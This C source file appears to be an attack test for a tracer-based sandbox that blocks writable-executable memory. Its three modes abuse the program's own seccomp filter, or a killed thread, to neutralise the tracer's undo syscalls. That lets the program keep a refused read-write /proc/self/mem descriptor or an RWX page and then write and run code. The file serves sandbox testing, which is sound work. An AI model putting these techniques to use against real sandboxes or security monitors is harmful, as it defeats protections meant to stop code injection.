/*
 * attack_seccomp_undo close|munmap|killthread: the program's own seccomp filter
 * answers for the calls a tracer injects to undo what it refused.
 *
 * A tracer that refuses a call at its exit undoes its result with a call
 * it makes the thread run: close() of a refused descriptor, munmap() of a
 * refused mapping. That call passes through the program's seccomp filters
 * like any other, and SECCOMP_RET_ERRNO with errno 0 makes it "succeed"
 * (return 0) without running.
 *
 *   close   the filter turns close(N) into a no-op, N being the descriptor
 *           the next open gets; /proc/self/mem is opened read-write (a
 *           refusal is EACCES, the descriptor "closed"), then the code is
 *           pwritten through N over tw_patch_target, which is called.
 *   munmap  the filter turns i386 munmap(0x90000000) into a no-op; an i386
 *           old_mmap (int $0x80) whose argument block lies in memfd_secret
 *           memory (judged at its exit) maps anonymous RWX at 0x90000000;
 *           whatever it returned, if the page is there and RWX, the code is
 *           written into it and called.
 *   killthread  a second thread installs (for itself alone) a filter
 *           answering SECCOMP_RET_KILL_THREAD for close(N) and opens
 *           /proc/self/mem read-write: the undo kills that thread and leaves
 *           N open; the main thread pwrites the code through N.
 */
#include "common.h"

#include <fcntl.h>
#include <pthread.h>
#include <linux/audit.h>
#include <linux/filter.h>
#include <linux/seccomp.h>
#include <stddef.h>
#include <sys/prctl.h>
#include <sys/syscall.h>

#define I386_NR_OLD_MMAP 90
#define I386_NR_MUNMAP 91
#define FIXED_AT 0x90000000u

TW_DEFINE_PATCH_TARGET;

struct old_mmap_args {
	uint32_t addr, len, prot, flags, fd, offset;
};

/* Install: (arch, nr, low 32 bits of the first argument) -> `action`. */
static int filter_one(uint32_t arch, uint32_t nr, uint32_t arg0, uint32_t action)
{
	struct sock_filter code[] = {
		BPF_STMT(BPF_LD | BPF_W | BPF_ABS, offsetof(struct seccomp_data, arch)),
		BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, arch, 0, 5),
		BPF_STMT(BPF_LD | BPF_W | BPF_ABS, offsetof(struct seccomp_data, nr)),
		BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, nr, 0, 3),
		BPF_STMT(BPF_LD | BPF_W | BPF_ABS, offsetof(struct seccomp_data, args[0])),
		BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, arg0, 0, 1),
		BPF_STMT(BPF_RET | BPF_K, action),
		BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ALLOW),
	};
	struct sock_fprog prog = {.len = sizeof(code) / sizeof(code[0]), .filter = code};
	int rc = prctl(PR_SET_NO_NEW_PRIVS, 1, 0, 0, 0);

	if (rc == 0)
		rc = (int)syscall(SYS_seccomp, SECCOMP_SET_MODE_FILTER, 0, &prog);
	tw_step("own_filter", "seccomp", rc, errno);
	return rc;
}

static int no_op_filter(uint32_t arch, uint32_t nr, uint32_t arg0)
{
	return filter_one(arch, nr, arg0, SECCOMP_RET_ERRNO | 0);
}

static int next_fd;

static void *open_and_die(void *arg)
{
	(void)arg;
	if (filter_one(AUDIT_ARCH_X86_64, SYS_close, (uint32_t)next_fd, SECCOMP_RET_KILL_THREAD) == 0)
		tw_step("thread_mem_open", "openat", open("/proc/self/mem", O_RDWR | O_CLOEXEC), errno);
	return NULL;
}

static int undo_killthread(void)
{
	pthread_t thread;
	ssize_t n;

	next_fd = dup(0);
	close(next_fd);
	if (pthread_create(&thread, NULL, open_and_die, NULL) != 0)
		return 1;
	for (int tries = 0; tries < 200; tries++) {
		char link[64], target[64];
		ssize_t len;

		snprintf(link, sizeof(link), "/proc/self/fd/%d", next_fd);
		len = readlink(link, target, sizeof(target) - 1);
		if (len > 0) {
			n = pwrite(next_fd, TW_CODE, sizeof(TW_CODE), (off_t)(uintptr_t)tw_patch_target);
			tw_step("kept_pwrite", "pwrite64", n, errno);
			if (n == (ssize_t)sizeof(TW_CODE))
				tw_run("killthread_undo_call", (const void *)tw_patch_target);
			return tw_done();
		}
		usleep(10000);
	}
	return tw_done();
}

static int undo_close(void)
{
	int next = dup(0), fd;
	ssize_t n;

	close(next);
	if (no_op_filter(AUDIT_ARCH_X86_64, SYS_close, (uint32_t)next) != 0)
		return tw_done();
	fd = open("/proc/self/mem", O_RDWR | O_CLOEXEC);
	tw_step("mem_open", "openat", fd, errno);
	n = pwrite(next, TW_CODE, sizeof(TW_CODE), (off_t)(uintptr_t)tw_patch_target);
	tw_step("kept_pwrite", "pwrite64", n, errno);
	if (n == (ssize_t)sizeof(TW_CODE))
		tw_run("close_undo_call", (const void *)tw_patch_target);
	return tw_done();
}

static long int80_1(long nr, long a)
{
	long ret;

	__asm__ volatile("int $0x80" : "=a"(ret) : "a"(nr), "b"(a) : "memory", "cc", "r8", "r9", "r10", "r11");
	return ret;
}

static int undo_munmap(void)
{
	size_t pg = tw_page();
	int fd = (int)syscall(SYS_memfd_secret, 0);
	struct old_mmap_args *block;
	void *page = (void *)(uintptr_t)FIXED_AT;
	struct tw_map m;

	tw_step("secret_create", "memfd_secret", fd, errno);
	if (fd < 0 || ftruncate(fd, (off_t)pg) != 0)
		return tw_done();
	block = tw_mmap("secret_block", NULL, pg, TW_RW, MAP_SHARED | MAP_32BIT, fd, 0);
	if (block == MAP_FAILED)
		return tw_done();
	*block = (struct old_mmap_args){FIXED_AT, (uint32_t)pg, TW_RWX, MAP_PRIVATE | MAP_ANONYMOUS | MAP_FIXED,
					(uint32_t)-1, 0};
	if (no_op_filter(AUDIT_ARCH_I386, I386_NR_MUNMAP, FIXED_AT) != 0)
		return tw_done();
	tw_step_raw("old_mmap", "mmap", int80_1(I386_NR_OLD_MMAP, (long)(uintptr_t)block));
	if (tw_find_map(page, &m) == 0 && m.perms[1] == 'w' && m.perms[2] == 'x') {
		tw_show_map("kept_page", page);
		tw_put_code(page);
		tw_run("munmap_undo_call", page);
	}
	return tw_done();
}

int main(int argc, char **argv)
{
	tw_init();
	if (argc == 2 && strcmp(argv[1], "close") == 0)
		return undo_close();
	if (argc == 2 && strcmp(argv[1], "munmap") == 0)
		return undo_munmap();
	if (argc == 2 && strcmp(argv[1], "killthread") == 0)
		return undo_killthread();
	fprintf(stderr, "usage: %s close|munmap|killthread\n", argv[0]);
	return 2;
}
